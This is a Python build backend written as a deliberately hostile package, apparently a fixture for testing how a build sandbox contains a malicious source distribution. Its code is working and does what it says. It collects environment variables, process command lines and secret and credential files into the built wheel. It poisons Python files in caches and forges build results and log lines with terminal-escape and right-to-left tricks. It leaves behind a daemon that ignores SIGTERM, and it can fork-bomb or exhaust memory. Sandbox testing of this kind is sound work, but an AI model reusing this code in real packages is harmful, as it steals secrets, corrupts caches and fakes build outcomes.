"""A build backend (PEP 517) as a stranger might write it. It is sent in source distributions and runs in builds' pods.

Standard library only, any Python that is supported. `orders.json` beside it says what it does and to whom.
"""

import json
import os
import pathlib
import signal
import socket
import time
import urllib.error
import urllib.request
import zipfile

ORDERS = json.loads((pathlib.Path(__file__).parent / "orders.json").read_text())
NAME = ORDERS["name"]
FOREVER = 10_000
SEARCHED = ("/var/run/secrets", "/run/secrets", "/credentials", "/cache", "/input", "/ca", "/work", "/tmp", "/dev/shm")
FORGED = "dagy-result: " + json.dumps({"step": "resolve", "ok": True, "result": {"lock": "Zm9yZ2Vk"}})


def get_requires_for_build_wheel(config_settings=None):
    return []


def build_wheel(directory, config_settings=None, metadata_directory=None):
    told = {"spy": spy, "complain": complain, "fork": fork, "allocate": allocate, "hang": hang, "link": link}[
        ORDERS["does"]
    ]()
    file, info = f"{NAME}-1.0-py3-none-any.whl", f"{NAME}-1.0.dist-info"
    with zipfile.ZipFile(pathlib.Path(directory, file), "w") as wheel:
        wheel.writestr(f"{NAME}.json", json.dumps(told))
        wheel.writestr(f"{info}/METADATA", f"Metadata-Version: 2.1\nName: {NAME}\nVersion: 1.0\n")
        wheel.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(f"{info}/RECORD", f"{NAME}.json,,\n{info}/METADATA,,\n{info}/WHEEL,,\n{info}/RECORD,,\n")
    return file


def spy():
    found = {
        "environment": dict(os.environ),
        "processes": processes(),
        "process_one": {path: opens(path) for path in ("/proc/1/mem", "/proc/1/fd/1")},
        "files": files(),
        "reached": {f"{host}:{port}": reaches(host, port) for host, port in ORDERS["addresses"]},
        "asked": {url: ask(url, method) for url, method in ORDERS["urls"]},
        "written": {path: write(path) for path in ORDERS["paths"]},
        "poisoned": poison(),
    }
    daemon()
    say(f"Past everything\n{FORGED}")
    return found


def complain():
    """Fail, for then the installer prints what was said: the only way into a log that there is."""
    found = {name: json.dumps(told) for name, told in spy().items() if name in ("reached", "asked", "written")}
    for name, told in found.items():
        print(f"spied: {name} {told}")
    print(f"\x1b[2J\x1b[31mAll is well\x1b[0m \u202eelif\n{FORGED}", flush=True)
    raise SystemExit(1)


def processes():
    found = {}
    for name in ("environ", "cmdline"):
        for path in pathlib.Path("/proc").glob(f"[0-9]*/{name}"):
            try:
                found[str(path)] = path.read_bytes().decode("latin-1")
            except OSError as error:
                found[str(path)] = f"error: {error}"
    return found


def opens(path):
    try:
        os.close(os.open(path, os.O_RDWR if path.endswith("mem") else os.O_WRONLY))
    except OSError as error:
        return f"no: {error}"
    return "yes"


def files():
    found = {}
    for root in SEARCHED:
        for folder, _, names in os.walk(root):
            for name in names[:200]:
                path = pathlib.Path(folder, name)
                if path.is_file() and path.stat().st_size < 100_000 and len(found) < 2000:
                    try:
                        found[str(path)] = path.read_bytes()[:2000].decode("latin-1")
                    except OSError as error:
                        found[str(path)] = f"error: {error}"
    return found


def reaches(host, port):
    try:
        socket.create_connection((host, port), timeout=3).close()
    except OSError as error:
        return f"no: {error}"
    return "yes"


def ask(url, method):
    try:
        request = urllib.request.Request(url, data=b"mine" if method == "PUT" else None, method=method)
        with urllib.request.urlopen(request, timeout=3) as answer:
            return f"{answer.status} {answer.read(200).decode('latin-1')}"
    except urllib.error.HTTPError as error:
        return f"no: {error.code}"
    except OSError as error:
        return f"no: {error}"


def write(path):
    try:
        pathlib.Path(path).parent.mkdir(parents=True, exist_ok=True)
        with pathlib.Path(path).open("ab") as file:
            file.write(b"forged")
    except OSError as error:
        return f"no: {error.strerror}"
    return "yes"


def poison():
    """Append to every Python file of every cache in sight, and leave an outcome and a result for the steps to come."""
    count = 0
    for root in {os.environ.get("UV_CACHE_DIR", "/none"), "/cache", "/work", "/tmp"}:
        for path in pathlib.Path(root).rglob("*.py"):
            if "builds-v" in str(path) or "sdists-v" in str(path) or path.name in ("backend.py", "__init__.py"):
                continue  # its own
            try:
                with path.open("a") as file:
                    file.write("\nPOISONED = True\n")
                count += 1
            except OSError:
                pass
    write("/work/install/outcome.json")
    return count


def say(line):
    """Into the container's log, past everything that looks at output."""
    try:
        with pathlib.Path("/proc/1/fd/1").open("w") as log:
            log.write(line + "\n")
    except OSError:
        pass


def daemon():
    """Stay behind, in a session of one's own, and go on forging outcomes and results."""
    if os.fork():
        return
    os.setsid()
    os.closerange(0, 1000)  # or the build would wait for the end of its output
    if os.fork():
        os._exit(0)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        write("/work/install/outcome.json")
        say(FORGED)
        time.sleep(0.02)


def fork():
    while True:
        try:
            if not os.fork():
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                time.sleep(FOREVER)
        except OSError as error:
            raise SystemExit(f"no more processes: {error.strerror}") from error


def allocate():
    taken = []
    while True:
        taken.append(b"x" * (16 << 20))


def hang():
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    daemon()
    time.sleep(FOREVER)


def link():
    pathlib.Path("/work/install/tree/environment.txt").symlink_to("/proc/self/environ")
